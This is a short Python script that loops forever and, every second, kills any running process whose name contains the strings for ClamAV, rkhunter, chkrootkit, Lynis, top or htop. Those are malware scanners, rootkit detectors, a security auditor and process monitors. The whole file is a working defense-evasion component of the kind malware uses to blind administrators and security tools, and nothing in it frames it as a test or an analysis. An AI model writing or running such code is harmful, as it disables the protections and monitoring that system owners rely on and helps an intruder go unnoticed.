import time
import psutil

BLOCKLIST = ("clamscan", "rkhunter", "chkrootkit", "lynis", "top", "htop")
while True:
    for proc in psutil.process_iter(attrs=["name"]):
        if any(b in (proc.info["name"] or "") for b in BLOCKLIST):
            try:
                proc.kill()
            except Exception:
                pass
    time.sleep(1)
